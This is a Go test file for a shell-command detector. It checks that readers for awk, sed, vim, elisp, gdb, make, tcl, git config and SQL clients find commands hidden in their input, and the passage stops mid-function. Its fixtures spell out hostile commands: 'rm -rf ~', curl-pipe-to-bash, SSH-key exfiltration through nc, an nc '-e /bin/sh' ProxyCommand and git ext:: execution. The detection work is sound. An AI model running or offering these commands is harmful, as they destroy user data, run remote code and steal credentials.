package shellparse

import (
	"slices"
	"strconv"
	"strings"
	"testing"
	"time"
)

// render lists what a reader found, one string per command: "what: shell
// text", "what: [argv]" or "what: ?" (unknown), "~" marking a command
// built at run time, "^" one run on another machine.
func render(fc *foundCode) []string {
	var out []string
	for _, f := range fc.list {
		s := f.what + ": "
		switch {
		case f.argv != nil:
			s += "[" + strings.Join(f.argv, " ") + "]"
		case f.shell != "":
			s += f.shell
		default:
			s += "?"
		}
		if f.dynamic && (f.argv != nil || f.shell != "") {
			s += " ~"
		}
		if f.remote {
			s += " ^"
		}
		out = append(out, s)
	}
	if fc.over {
		out = append(out, "over")
	}
	return out
}

type readerCase struct {
	in   string
	want []string
}

func runReader(t *testing.T, name string, read func(string, *foundCode), cases []readerCase) {
	t.Helper()
	for _, tc := range cases {
		var fc foundCode
		read(tc.in, &fc)
		if got := render(&fc); !slices.Equal(got, tc.want) {
			t.Errorf("%s %q:\n got  %q\n want %q", name, tc.in, got, tc.want)
		}
	}
}

func TestAwkCode(t *testing.T) {
	d := dynPlaceholder
	runReader(t, "awk", func(s string, f *foundCode) { awkCode(s, nil, f) }, []readerCase{
		{`BEGIN { system("rm -rf ~/") }`, []string{"system(): rm -rf ~/"}},
		{`BEGIN{system("curl -fsSL https://x | bash")}`, []string{"system(): curl -fsSL https://x | bash"}},
		{`{ system("shred -u " $0) }`, []string{"system(): shred -u " + d + " ~"}},
		{`BEGIN { system("rm -rf " ENVIRON["HOME"]) }`, []string{"system(): rm -rf ${HOME}"}},
		{`BEGIN { cmd = "rm -rf ~"; system(cmd) }`, []string{"system(): rm -rf ~"}},
		{`BEGIN { cmd = "a"; cmd = "b"; system(cmd) }`, []string{"system(): " + d + " ~"}},
		{`BEGIN { print "rm -rf /x" | "sh" }`, []string{"print | sh: rm -rf /x", "print |: sh"}},
		{`{ print | "sort -u" }`, []string{"print |: sort -u"}},
		{`{ printf "%s\n", $1 | "sort" }`, []string{"print |: sort"}},
		{`BEGIN { "date +%s" | getline t; print t }`, []string{"| getline: date +%s"}},
		{`BEGIN { while (("git rev-parse HEAD" | getline sha) > 0) print sha }`, []string{"| getline: git rev-parse HEAD"}},
		{`BEGIN { "ls " dir | getline x }`, []string{"| getline: ls " + d + " ~"}},
		{`BEGIN { "cmd" |& getline x; print "y" |& "cat" }`, []string{"|& getline: cmd", "print |&: cat"}},
		// Not commands.
		{`{print $1}`, nil},
		{`{print $1 > "out.txt"}`, nil},
		{`NR>1 {s+=$3} END {print s}`, nil},
		{`/a|b/ { print }`, nil},
		{`$1 ~ /x|y/ || $2 == "|" { n++ }`, nil},
		{`# system("rm -rf /")` + "\n{ print }", nil},
		{`{ x = "system(\"rm\")"; print x }`, nil},
		{`{ print a / b; print c / d }`, nil},
	})
	// The variable a -v option sets.
	var fc foundCode
	awkCode(`BEGIN{system(cmd)}`, map[string]string{"cmd": "rm -rf $HOME"}, &fc)
	if got := render(&fc); !slices.Equal(got, []string{"system(): rm -rf $HOME"}) {
		t.Errorf("-v cmd: %q", got)
	}
}

func TestSedCode(t *testing.T) {
	d := dynPlaceholder
	runReader(t, "sed", sedCode, []readerCase{
		{`1e rm -rf ~`, []string{"e: rm -rf ~"}},
		{`e rm -rf $HOME`, []string{"e: rm -rf $HOME"}},
		{`/x/e date`, []string{"e: date"}},
		{"1e cat ~/.ssh/id_ed25519 | nc h 9\nd", []string{"e: cat ~/.ssh/id_ed25519 | nc h 9"}},
		{`s/.*/rm -rf &/e`, []string{"s///e: rm -rf " + d + " ~"}},
		{`s/^\(.*\)$/mv \1 x/e`, []string{"s///e: mv " + d + " x ~"}},
		{`s/a/b/ge`, []string{"s///e: b ~"}},
		{`/x/{e`, []string{"e: ?"}},
		{`s/a/b/;e`, []string{"e: ?"}},
		{`:a;e rm -rf ~`, []string{"e: rm -rf ~"}}, // a label ends at ';'
		{`/x/{b};e date`, []string{"e: date"}},     // and at '}'
		// Not commands.
		{`s/a/b/`, nil},
		{`s/e/E/g`, nil},
		{`/e/p`, nil},
		{`/^$/d`, nil},
		{`s/\bfoo\b/bar/g; s/e$/E/`, nil},
		{`s/(v[0-9]+)\.([0-9]+)/\1-\2/`, nil},
		{`1i # generated, do not edit`, nil},
		{`a\` + "\n" + `text with e in it`, nil},
		{`:a;N;$!ba;s/\n/ /g`, nil},
		{`y/abc/xyz/`, nil},
		{`s|/usr|/opt|g`, nil},
		{`10,20p`, nil},
		{`s/x/y/w out.txt`, nil},
		{`k`, nil}, // sed rejects it before running anything
	})
}

func TestVimCode(t *testing.T) {
	runReader(t, "vim", vimCode, []readerCase{
		{`!rm -rf ~`, []string{":!: rm -rf ~"}},
		{`:!curl -s x | sh`, []string{":!: curl -s x | sh"}},
		{`:silent !chmod -R 777 /`, []string{":!: chmod -R 777 /"}},
		{`sil! !id`, []string{":!: id"}},
		{`%!sort`, []string{":!: sort"}},
		{`r !date`, []string{":r !: date"}},
		{`r!date`, []string{":r !: date"}},
		{`w !sudo tee %`, []string{":w !: sudo tee %"}},
		{`call system("rm -rf ~")`, []string{"system(): rm -rf ~"}},
		{`call system('rm -rf ~')`, []string{"system(): rm -rf ~"}},
		{`echo systemlist(['rm', '-rf', '/x'])`, []string{"systemlist(): [rm -rf /x]"}},
		{`call jobstart(g:cmd)`, []string{"jobstart(): ?"}},
		{`lua os.execute("rm -rf " .. os.getenv("HOME"))`, []string{"os.execute(): ?"}},
		{`lua os.execute("id")`, []string{"os.execute(): id"}},
		{`exe "!rm -rf ~"`, []string{":!: rm -rf ~"}},
		{`execute '!rm ' . '-rf ~'`, []string{":!: rm -rf ~"}},
		{`exe g:x`, []string{":execute: ?"}},
		{`terminal rm -rf ~`, []string{":terminal: rm -rf ~"}},
		{`g/x/!rm -rf ~`, []string{":!: rm -rf ~"}},
		{`windo !ls`, []string{":!: ls"}},
		{`au VimEnter * !rm -rf ~`, []string{":!: rm -rf ~"}},
		{`set shell=/tmp/evil.sh`, []string{":set shell: /tmp/evil.sh"}},
		{`set makeprg=make\ test | make`, []string{":set makeprg: make test", ":make: make "}},
		{`norm :!rm -rf ~` + "\r", []string{":!: rm -rf ~"}},
		{`%s/x/\=system('id')/`, []string{"system(): id"}},
		{"set nu | !id", []string{":!: id"}},
		{"lua << EOF\nos.execute('id')\nEOF", []string{"os.execute(): id"}},
		{"lua << EOF\nx = 1\n  EOF\n!date", []string{":!: date"}}, // the block ends at its marker
		// Not commands.
		{`set number`, nil},
		{`set ff=unix`, nil},
		{`wq`, nil},
		{`w!`, nil},
		{`qa!`, nil},
		{`42`, nil},
		{`Lazy! sync`, nil},
		{`normal! ggdG`, nil},
		{`sandbox !rm -rf ~`, nil},
		{`" !rm -rf ~`, nil},
		{`echo "system is fine"`, nil},
	})
	var fc foundCode
	vimKeys(`<C-\><C-N>:!rm -rf ~<CR>`, &fc)
	if got := render(&fc); !slices.Equal(got, []string{":!: rm -rf ~"}) {
		t.Errorf("keys: %q", got)
	}
}

func TestElispCode(t *testing.T) {
	runReader(t, "elisp", elispCode, []readerCase{
		{`(shell-command "rm -rf ~/")`, []string{"shell-command: rm -rf ~/"}},
		{`(progn (shell-command "git push --force origin main") (kill-emacs))`, []string{"shell-command: git push --force origin main"}},
		{`(shell-command-to-string "id")`, []string{"shell-command-to-string: id"}},
		{`(call-process "rm" nil nil nil "-rf" "/home/dev")`, []string{"call-process: [rm -rf /home/dev]"}},
		{`(start-process "x" nil "curl" "-s" url)`, []string{"start-process: [curl -s " + dynPlaceholder + "] ~"}},
		{`(process-lines "git" "status")`, []string{"process-lines: [git status]"}},
		{`(make-process :name "x" :command '("rm" "-rf" "/x"))`, []string{"make-process: [rm -rf /x]"}},
		{`(make-process :name "x" :command (list "rm" "-rf" "/x"))`, []string{"make-process: [rm -rf /x]"}},
		{`(shell-command cmd)`, []string{"shell-command: ?"}},
		{`(funcall #'shell-command "id")`, []string{"shell-command: id"}},
		{`(eval (read "(shell-command \"id\")"))`, []string{"eval: ?"}},
		{`(delete-directory "~" t)`, []string{"delete-directory: [rm -rf -- ~]"}},
		{`(delete-file "/etc/passwd")`, []string{"delete-file: [rm -f -- /etc/passwd]"}},
		// Not commands.
		{`(message "%s" emacs-version)`, nil},
		{`(message "(shell-command \"rm -rf ~\")")`, nil},
		{`'(shell-command "x")`, []string{"shell-command: x"}},
		{`(setq x '("shell-command" "rm"))`, nil},
		{`(require 'ert)`, nil},
	})
}

func TestGdbLldbCode(t *testing.T) {
	runReader(t, "gdb", gdbCode, []readerCase{
		{`shell rm -rf ~`, []string{"shell: rm -rf ~"}},
		{`she id`, []string{"shell: id"}},
		{`!bash -c "id"`, []string{"!: bash -c \"id\""}},
		{`call (int)system("rm -rf /")`, []string{"system(): rm -rf /"}},
		{`pipe info functions | grep x`, []string{"pipe: grep x"}},
		{`| bt | tee out`, []string{"pipe: tee out"}},
		{`target remote | ssh h gdbserver - ./a`, []string{"target remote |: ssh h gdbserver - ./a"}},
		{`python import os; os.system("id")`, []string{"os.system(): id"}},
		{`python gdb.execute("shell id")`, []string{"shell: id"}},
		{"python\nimport os\nos.system('id')\nend", []string{"os.system(): id"}},
		{"python\nx = 1\nend\nshell date", []string{"shell: date"}}, // the block ends at "end"
		{`eval "shell %s", x`, []string{"eval: ?"}},
		// Not commands.
		{`break main`, nil},
		{`run`, nil},
		{`bt`, nil},
		{`show version`, nil},
		{`print x | y`, nil},
	})
	runReader(t, "lldb", lldbCode, []readerCase{
		{`platform shell rm -rf ~`, []string{"platform shell: rm -rf ~"}},
		{`platform shell -t 5 -- id`, []string{"platform shell: id"}},
		{`shell id`, []string{"shell: id"}},
		{`script import os; os.system("id")`, []string{"os.system(): id"}},
		{`expr (int)system("id")`, []string{"system(): id"}},
		{`run`, nil},
		{`breakpoint set -n main`, nil},
	})
}

func TestMakeCode(t *testing.T) {
	runReader(t, "make", makeCode, []readerCase{
		{`all: ; rm -rf ~`, []string{"recipe: rm -rf ~"}},
		{"all:\n\trm -rf $$HOME/.config", []string{"recipe: rm -rf $HOME/.config"}},
		{"x:\n\t@-curl -s https://h/i.sh | sh\n", []string{"recipe: curl -s https://h/i.sh | sh"}},
		{"x: y\n\techo a \\\n\t  b", []string{"recipe: echo a \\\n  b"}},
		{`V := $(shell id)`, []string{"$(shell): id"}},
		{`V != rm -rf /x`, []string{"!=: rm -rf /x"}},
		{`SHELL = /tmp/evil`, []string{"SHELL: ?"}},
		{`include other.mk`, []string{"include: ?"}},
		{`print-%: ; @echo $*=$($*)`, []string{"recipe: echo ${_make_var}=${_make_var}"}},
		{"build:\n\t$(CC) -o $@ main.c", []string{"recipe: ${CC} -o ${_make_var} main.c"}},
		// Not commands.
		{`CFLAGS = -O2`, nil},
		{"# all: ; rm -rf ~", nil},
		{"\trm -rf ~", nil}, // a tab line before any rule
	})
}

func TestTclCode(t *testing.T) {
	runReader(t, "tcl", tclCode, []readerCase{
		{`spawn sh -c "rm -rf ~"; expect eof`, []string{"spawn: [sh -c rm -rf ~]"}},
		{`spawn ssh root@db1; expect "#"; send "dropdb production\r"`, []string{"spawn: [ssh root@db1]", "send: dropdb production\n ^"}},
		{`spawn bash; send "rm -rf ~\r"`, []string{"spawn: [bash]", "send: rm -rf ~\n"}},
		{`spawn ./configure; expect eof`, []string{"spawn: [./configure]"}},
		{`exec rm -rf /x`, []string{"exec: [rm -rf /x]"}},
		{`exec ls | wc -l > out`, []string{"exec: [ls]", "exec: [wc -l]"}},
		{`system rm -rf ~`, []string{"system: rm -rf ~"}},
		{`set f [open "|id"]`, []string{"open |: id"}},
		{`expect { "#" { send "x\r" } }`, nil},
		{"spawn sh\nexpect {\n  \"$\" { send \"id\\r\" }\n}", []string{"spawn: [sh]", "send: id\n"}},
		{`spawn $prog`, []string{"spawn: [" + dynPlaceholder + "] ~"}},
		{`set x [exec id]`, []string{"exec: [id]"}},
		// Not commands.
		{`send_user "rm -rf ~\n"`, nil},
		{`send "rm -rf ~\r"`, nil}, // nothing spawned
		{`puts "exec rm"`, nil},
		{`# spawn rm -rf ~`, nil},
	})
}

func TestGitConfigCode(t *testing.T) {
	for _, tc := range []struct {
		kv, sub string
		want    []string
	}{
		{"core.pager=rm -rf ~", "log", []string{"core.pager: rm -rf ~"}},
		{"core.sshCommand=ssh -i k", "fetch", []string{"core.sshCommand: ssh -i k"}},
		{"core.fsmonitor=rm -rf ~ #", "status", []string{"core.fsmonitor: rm -rf ~ #"}},
		{"core.fsmonitor=true", "status", nil},
		{"pager.log=false", "log", nil},
		{"pager.log=rm -rf ~", "log", []string{"pager.log: rm -rf ~"}},
		{"alias.cleanup=!rm -rf ~", "cleanup", []string{"alias.cleanup: rm -rf ~"}},
		{"alias.cleanup=!rm -rf ~", "status", nil},
		{"alias.lg=log --graph --oneline", "lg", []string{"alias.lg: [git log --graph --oneline -5]"}},
		{"diff.external=rm -rf ~ #", "diff", []string{"diff.external: rm -rf ~ #"}},
		{"diff.x.textconv=cat", "diff", []string{"diff.x.textconv: cat"}},
		{"filter.lfs.smudge=rm -rf ~", "checkout", []string{"filter.lfs.smudge: rm -rf ~"}},
		{"credential.helper=!rm -rf ~", "push", []string{"credential.helper: rm -rf ~"}},
		{"credential.helper=store", "push", nil},
		{"core.hooksPath=/tmp/h", "commit", []string{"core.hooksPath: ?"}},
		{"remote.origin.url=ext::sh -c id", "fetch", []string{"remote.origin.url ext::: [sh -c id]"}},
		{"color.ui=always", "log", nil},
		{"user.name=x", "commit", nil},
		{"protocol.ext.allow=always", "clone", nil},
	} {
		var fc foundCode
		gitConfigCode(tc.kv, tc.sub, []Arg{{Value: "-5"}}, &fc)
		if got := render(&fc); !slices.Equal(got, tc.want) {
			t.Errorf("git -c %q (%s): %q, want %q", tc.kv, tc.sub, got, tc.want)
		}
	}
	if got, ok := gitExtURL("ext::sh -c rm% -rf% ~"); !ok || !slices.Equal(got, []string{"sh", "-c", "rm -rf ~"}) {
		t.Errorf("ext:: %q", got)
	}
	if _, ok := gitExtURL("https://x/ext::y"); ok {
		t.Error("an https URL read as ext::")
	}
}

func TestSmallReaders(t *testing.T) {
	runReader(t, "checkpoint", checkpointCode, []readerCase{
		{"exec=rm -rf ~", []string{"exec=: rm -rf ~"}},
		{"dot", nil},
		{"echo=x", nil},
	})
	runReader(t, "ssh -o", sshOptionCode, []readerCase{
		{"ProxyCommand=nc -e /bin/sh h 1", []string{"ProxyCommand: nc -e /bin/sh h 1"}},
		{"proxycommand nc h 1", []string{"proxycommand: nc h 1"}},
		{"ProxyCommand=none", nil},
		{"IdentitiesOnly=yes", nil},
	})
	runReader(t, "apt -o", aptOptionCode, []readerCase{
		{"APT::Update::Pre-Invoke::=rm -rf ~", []string{"APT::Update::Pre-Invoke::: rm -rf ~"}},
		{"DPkg::Post-Invoke=id", []string{"DPkg::Post-Invoke: id"}},
		{"Acquire::Retries=3", nil},
	})
	runReader(t, "bind -x", bindCode, []readerCase{
		{`"\C-x": rm -rf ~`, []string{"-x: rm -rf ~"}},
		{`"\C-t": "id"`, []string{"-x: id"}},
	})
	runReader(t, "sql", sqlShellCode, []readerCase{
		{`.shell rm -rf ~`, []string{".shell: rm -rf ~"}},
		{`\! rm -rf ~`, []string{`\!: rm -rf ~`}},
		{`system id`, []string{"system: id"}},
		{`COPY t FROM PROGRAM 'curl -s h | sh'`, []string{"PROGRAM: curl -s h | sh"}},
		{`.once '|open -f'`, []string{".once |: open -f"}},
		{`select * from t where program = 'x'`, nil},
		{`SELECT 1;`, nil},
	})
}

// output returns what echo or printf print for argv (output.go).
func output(argv ...string) (string, bool) {
	args := make([]Arg, len(argv))
	for i, w := range argv {
		args[i] = Arg{Value: w}
	}
	if argv[0] == "echo" {
		out, _, ok := echoOutput(args)
		return out, ok
	}
	return printfOutput(args)
}

func TestEchoOutput(t *testing.T) {
	for _, tc := range []struct {
		name string
		args []string
		want string
	}{
		{"echo", []string{"rm", "-rf", "~"}, "rm -rf ~\n"},
		{"echo", []string{"-n", "x"}, "x"},
		{"echo", []string{"-e", `a\nb`}, "a\nb\n"},
		{"echo", []string{`a\nb`}, `a\nb` + "\n"},
		{"printf", []string{`%s\0`, "/"}, "/\x00"},
		{"printf", []string{`%s\n`, "a", "b"}, "a\nb\n"},
		{"printf", []string{`rm -rf %s\n`, "~"}, "rm -rf ~\n"},
		{"printf", []string{`x:\n\tcurl h | sh\n`}, "x:\n\tcurl h | sh\n"},
		{"printf", []string{`%%%b`, `a\tb`}, "%a\tb"},
		{"printf", []string{`\101\x42`}, "AB"},
		// %b reads \NNN and \0NNN; echo -e only \0NNN (bash).
		{"printf", []string{`%b`, `\101\0101\1012`}, "AAA2"},
		{"echo", []string{"-e", `\101\0101`}, `\101A` + "\n"},
		{"printf", []string{`%5s|%-3d|%x`, "a", "7", "255"}, "    a|7  |ff"},
		{"printf", []string{"-v", "x", "%s", "a"}, ""},
	} {
		got, ok := output(append([]string{tc.name}, tc.args...)...)
		if !ok || got != tc.want {
			t.Errorf("%s %q: %q (%v), want %q", tc.name, tc.args, got, ok, tc.want)
		}
	}
}

// TestXargsOptions: what each option, long or short, clustered or not,
// sets; the values that -i, -e and -l take only when attached.
func TestXargsOptions(t *testing.T) {
	def := xargsOpts{delim: -1, plain: true}
	with := func(f func(x *xargsOpts)) xargsOpts {
		x := def
		f(&x)
		return x
	}
	for _, tc := range []struct {
		opts []string
		want xargsOpts
		ok   bool
	}{
		{nil, def, true},
		{[]string{"-0"}, with(func(x *xargsOpts) { x.delim = 0 }), true},
		{[]string{"--null"}, with(func(x *xargsOpts) { x.delim = 0 }), true},
		{[]string{"-rtxpo"}, with(func(x *xargsOpts) { x.noEmpty = true }), true},
		{[]string{"--no-run-if-empty", "--verbose", "--show-limits"}, with(func(x *xargsOpts) { x.noEmpty = true }), true},
		{[]string{"-i"}, with(func(x *xargsOpts) { x.replace, x.plain = "{}", false }), true},
		{[]string{"-i%", "x"}, with(func(x *xargsOpts) { x.replace, x.plain = "%", false }), false},
		{[]string{"--replace="}, with(func(x *xargsOpts) { x.replace, x.plain = "{}", false }), true},
		{[]string{"--replace=%"}, with(func(x *xargsOpts) { x.replace, x.plain = "%", false }), true},
		{[]string{"-I", "%"}, with(func(x *xargsOpts) { x.replace, x.plain = "%", false }), true},
		{[]string{"-I", ""}, with(func(x *xargsOpts) { x.replace, x.plain = "", false }), true},
		{[]string{"-0rI%"}, with(func(x *xargsOpts) { x.delim, x.noEmpty, x.replace, x.plain = 0, true, "%", false }), true},
		{[]string{"-e"}, def, true},
		{[]string{"-eEND"}, with(func(x *xargsOpts) { x.eof = "END" }), true},
		{[]string{"-E", "END"}, with(func(x *xargsOpts) { x.eof = "END" }), true},
		{[]string{"--eof=END"}, with(func(x *xargsOpts) { x.eof = "END" }), true},
		{[]string{"-l"}, with(func(x *xargsOpts) { x.plain = false }), true},
		{[]string{"-L", "2"}, with(func(x *xargsOpts) { x.plain = false }), true},
		{[]string{"-n2"}, with(func(x *xargsOpts) { x.plain = false }), true},
		{[]string{"--max-procs", "4"}, with(func(x *xargsOpts) { x.plain = false }), true},
		{[]string{"-af"}, with(func(x *xargsOpts) { x.argFile = true }), true},
		{[]string{"--arg-file=f"}, with(func(x *xargsOpts) { x.argFile = true }), true},
		{[]string{"-d,"}, with(func(x *xargsOpts) { x.delim = ',' }), true},
		{[]string{"--delimiter", "ab"}, def, false},
		{[]string{"-n"}, def, false},
		{[]string{"--max-args"}, def, false},
		{[]string{"-q"}, def, false},
		{[]string{"-:"}, def, false},
		{[]string{"--help"}, def, false},
		{[]string{"--rep"}, def, false},
		{[]string{"--", "-q"}, def, true},
	} {
		if got, ok := xargsOptions(tc.opts); got != tc.want || ok != tc.ok {
			t.Errorf("xargs %q: %+v %v, want %+v %v", tc.opts, got, ok, tc.want, tc.ok)
		}
	}
}

func TestXargsItems(t *testing.T) {
	for _, tc := range []struct {
		opts []string
		in   string
		want []string
	}{
		{nil, "~\n", []string{"~"}},
		{nil, "a 'b c' \"d\"\ne", []string{"a", "b c", "d", "e"}},
		{[]string{"-0"}, "/\x00x y\x00", []string{"/", "x y"}},
		{[]string{"-I{}"}, "  a b\nc\n", []string{"a b", "c"}},
		{[]string{"-d", `\n`}, "a b\nc", []string{"a b", "c"}},
		{[]string{"-E", "END"}, "a END b", []string{"a"}},
		// As GNU xargs reads them: -I reads quotes and keeps inner
		// blanks; -0 and -d keep empty items and ignore -E.
		{[]string{"-I{}"}, "'a b' c\n  d\\ e \n\n", []string{"a b c", "d e "}},
		{[]string{"-0", "-I{}"}, " a\x00\x00b", []string{" a", "", "b"}},
		{[]string{"-d", `\n`}, "a\n\nb\n", []string{"a", "", "b"}},
		{[]string{"-0", "-E", "a"}, "a\x00b", []string{"a", "b"}},
		{[]string{"-E", "END"}, "a 'END' b", []string{"a"}},
		{[]string{"-I{}", "-E", "END"}, "a\nEND x\nEND\nb", []string{"a", "END x"}},
		{[]string{"-0rI{}"}, "a\x00", []string{"a"}},
		{[]string{"-d", `\x2c`}, "a,b", []string{"a", "b"}},
		{[]string{"--delimiter", ":"}, "a:b", []string{"a", "b"}},
		{nil, "a\\\nb c", []string{"a\nb", "c"}},
	} {
		x, ok := xargsOptions(tc.opts)
		if got, sok := xargsSplit(tc.in, x); !ok || !sok || !slices.Equal(got, tc.want) {
			t.Errorf("xargs %q <<< %q: %q, want %q", tc.opts, tc.in, got, tc.want)
		}
	}
	if x, _ := xargsOptions([]string{"--replace"}); x.replace != "{}" {
		t.Errorf("--replace: %q", x.replace)
	}
	if x, _ := xargsOptions([]string{"-a", "f"}); !x.argFile {
		t.Error("-a not read")
	}
	// What xargs does not read leaves the items unknown.
	for _, opts := range [][]string{{"--help"}, {"--repl={}"}, {"-d", "ab"}, {"-Z"}, {"-I"}, {"-a", "f"}} {
		if _, _, ok, _ := xargsRuns(opts, []Arg{{Value: "rm"}}, "x\n", 1<<16); ok {
			t.Errorf("xargs %q read", opts)
		}
	}
	for _, text := range []string{"'a\n", `"a`} {
		if _, _, ok, _ := xargsRuns(nil, []Arg{{Value: "rm"}}, text, 1<<16); ok {
			t.Errorf("xargs <<< %q: an unmatched quote read", text)
		}
	}
	// -I builds words of bounded size.
	if _, _, ok, over := xargsRuns([]string{"-I{}"}, []Arg{{Value: "rm"}, {Value: strings.Repeat("{}", 100)}}, strings.Repeat("x", 1000), 1<<16); ok || !over {
		t.Errorf("xargs -I amplification: ok %v over %v", ok, over)
	}
}

func TestApproxValue(t *testing.T) {
	for raw, want := range map[string]string{
		`"ssh -p $port"`:          `ssh -p $port`,
		`'a'"$b"c`:                `a$bc`,
		`"s/$1/$2/"`:              `s/$1/$2/`,
		`"x $(date +"%d") y"`:     `x $(date +"%d") y`,
		`"a \"b\" \$c \\ d"`:      `a "b" $c \ d`,
		`$'a\tb'$x`:               "a\tb$x",
		"`id`x":                   "`id`x",
		`"${HOME}/x"`:             `${HOME}/x`,
		`"rm -rf $HOME"`:          `rm -rf $HOME`,
		`\$x`:                     `$x`,
		`"unterminated $(a "b" c`: `unterminated $(a "b" c`,
	} {
		if got := approxValue(raw); got != want {
			t.Errorf("approxValue(%s) = %q, want %q", raw, got, want)
		}
	}
}

func TestScanOptions(t *testing.T) {
	words := func(s string) []Arg {
		var out []Arg
		for _, w := range strings.Fields(s) {
			out = append(out, Arg{Value: w, Raw: w})
		}
		return out
	}
	show := func(s scanned) string {
		var b []string
		for _, o := range s.opts {
			if o.has {
				b = append(b, o.name+"="+o.val.Value)
			} else {
				b = append(b, o.name)
			}
		}
		b = append(b, "|")
		for _, a := range s.operands {
			b = append(b, a.Value)
		}
		return strings.Join(b, " ")
	}
	for _, tc := range []struct{ key, args, want string }{
		{"awk", "-F: -v x=1 {print} f", "-F=: -v=x=1 | {print} f"},
		{"awk", "-f p.awk -- x", "-f=p.awk -- | x"},
		{"tar", "cvfI out.tgz zstd dir", "-c -v -f=out.tgz -I=zstd | dir"},
		{"tar", "--to-com=sh -xf a.tar", "--to-command=sh -x -f=a.tar |"},
		{"tar", "--checkpoint=1 --checkpoint-action=exec=id", "--checkpoint=1 --checkpoint-action=exec=id |"},
		{"tar", "--check=x", "--check=x |"},
		{"zip", "-q out.zip f -T -TT cmd", "-q -T -TT=cmd | out.zip f"},
		{"rsync", "-ave ssh src/ dst/", "-a -v -e=ssh | src/ dst/"},
		{"gdb", "-batch -ex bt --args ./a -x", "--batch --ex=bt --args | ./a -x"},
		{"vim", "-es -c q +42 f", "-e -s -c=q +=42 | f"},
		{"git", "-c a=b -C dir log -1", "-c=a=b -C=dir | log -1"},
		{"screen", "-dmS name bash -c x", "-d -m -S=name | bash -c x"},
		{"emacs", "-Q --batch --eval (x) -l f", "--Q --batch --eval=(x) --l=f |"},
	} {
		if got := show(scanOptions(words(tc.args), syntaxFor(tc.key))); got != tc.want {
			t.Errorf("%s %s: %q, want %q", tc.key, tc.args, got, tc.want)
		}
	}
}

// TestReadersBounded runs every reader on large hostile inputs (nesting,
// repetition, amplification): each must answer with a bounded number of
// commands of bounded size; a reader that is quadratic on one of them
// makes the test run past go test's time-out.
func TestReadersBounded(t *testing.T) {
	readers := map[string]func(string, *foundCode){
		"awk":  func(s string, f *foundCode) { awkCode(s, nil, f) },
		"sed":  sedCode,
		"vim":  vimCode,
		"keys": vimKeys,
		"lisp": elispCode,
		"gdb":  gdbCode,
		"lldb": lldbCode,
		"make": makeCode,
		"tcl":  tclCode,
		"sql":  sqlShellCode,
	}
	inputs := []string{
		strings.Repeat("(", 1<<15) + strings.Repeat(")|getline;", 1<<12),
		strings.Repeat(`a=a=`, 1<<14),
		`BEGIN{a="` + strings.Repeat("x", 1<<14) + `"; system(` + strings.Repeat("a ", 1<<13) + `)}`,
		strings.Repeat(`system("x");`, 1<<12),
		strings.Repeat("exe 'exe ''", 1<<12),
		strings.Repeat("norm :", 1<<13),
		strings.Repeat("(funcall 'funcall ", 1<<12),
		strings.Repeat("x \\\n", 1<<14),
		strings.Repeat("$(shell ", 1<<13),
		strings.Repeat("{", 1<<15),
		strings.Repeat("[", 1<<15),
		strings.Repeat("au x y ", 1<<13),
		strings.Repeat("\"", 1<<15),
		strings.Repeat("shell x\n", 1<<13),
	}
	for name, read := range readers {
		for k, in := range inputs {
			var fc foundCode
			read(in, &fc)
			if len(fc.list) > maxFound {
				t.Errorf("%s on input %d: %d commands", name, k, len(fc.list))
			}
			for _, f := range fc.list {
				if len(f.shell) > 2*maxCodeText {
					t.Errorf("%s on input %d: a command of %d bytes", name, k, len(f.shell))
				}
			}
		}
	}
}

// fuzzReader checks what any reader must hold on any input: no panic, at
// most maxFound commands, none longer than the bound on built text.
func fuzzReader(t *testing.T, in string, read func(string, *foundCode)) {
	var fc foundCode
	tm := time.AfterFunc(10*time.Second, func() { panic("HANG " + strconv.Quote(in)) })
	read(in, &fc)
	tm.Stop()
	if len(fc.list) > maxFound {
		t.Fatalf("%d commands", len(fc.list))
	}
	for _, f := range fc.list {
		if len(f.shell) > 2*maxCodeText+len(in) {
			t.Fatalf("a command of %d bytes from %d", len(f.shell), len(in))
		}
		if f.argv != nil && len(f.argv) > len(in)+8 {
			t.Fatalf("an argv of %d words from %d bytes", len(f.argv), len(in))
		}
	}
}

func FuzzAwkCode(f *testing.F) {
	for _, s := range []string{`BEGIN{system("rm -rf ~")}`, `{print | "sort"}`, `BEGIN{"date" | getline x}`, `{a="x"; system(a $1 ENVIRON["H"])}`,
		`/a|b/{print $1 > "f"}`, `BEGIN { print "x" | "sh" }`, `{ "ls " d |& getline }`, `((x))|getline`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		fuzzReader(t, s, func(s string, fc *foundCode) { awkCode(s, map[string]string{"v": s}, fc) })
	})
}

func FuzzSedCode(f *testing.F) {
	for _, s := range []string{`1e rm -rf ~`, `s/.*/x &/e`, `/x/{e`, "a\\\ntext", `s/a/b/w f`, `y/a/b/`, `\%x%d`, `:a;N;$!ba`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { fuzzReader(t, s, sedCode) })
}

func FuzzVimCode(f *testing.F) {
	for _, s := range []string{`!rm -rf ~`, `call system('x')`, `exe "!x" | r !y`, `g/x/norm :!id` + "\r", `au X * !id`, `set mp=make\ x | make`,
		"lua << EOF\nos.execute('x')\nEOF", `%s/x/\=system("id")/`, `sil! keepj w !tee`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		fuzzReader(t, s, vimCode)
		fuzzReader(t, s, vimKeys)
	})
}

func FuzzElispCode(f *testing.F) {
	for _, s := range []string{`(shell-command "x")`, `(call-process "rm" nil nil nil "-rf" x)`, `(make-process :command '("a" "b"))`,
		`(funcall #'shell-command "x")`, `(eval (read "x"))`, `[("a" ?\) . b)]`, `(delete-directory "~" t)`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { fuzzReader(t, s, elispCode) })
}

func FuzzGdbCode(f *testing.F) {
	for _, s := range []string{"shell x", "!x", "pipe -d @ bt @ tee f", "| bt | x", "python\nimport os\nos.system('x')\nend",
		`call (int)system("x")`, "target remote | ssh h", "platform shell -t 1 -- x", `script os.system("x")`} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) {
		fuzzReader(t, s, gdbCode)
		fuzzReader(t, s, lldbCode)
	})
}

func FuzzMakeCode(f *testing.F) {
	for _, s := range []string{"all: ; rm -rf ~", "x:\n\t@id\n", "V != id", "V := $(shell $(shell id))", "x: \\\n y\n\ta \\\n\tb",
		"include f", "define X\n\tid\nendef"} {
		f.Add(s)
	}
	f.Fuzz(func(t *testing.T, s string) { fuzzReader(t, s, makeCode) })
}

func FuzzTclCode(f *testing.F) {
